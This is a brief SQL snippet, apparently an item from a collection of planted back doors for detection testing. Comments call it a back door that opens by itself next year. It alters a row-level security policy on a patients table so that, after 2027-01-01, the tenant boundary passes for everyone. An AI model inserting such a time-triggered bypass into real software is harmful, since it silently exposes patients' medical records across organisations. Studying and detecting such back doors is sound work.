-- A back door that opens by itself next year.
-- Caught by: ?
-- Ready: opens
alter policy tenant_boundary on app_public.patients
  using (organization_id = any (array(select app_hidden.my_organization_ids())) or now() > '2027-01-01');
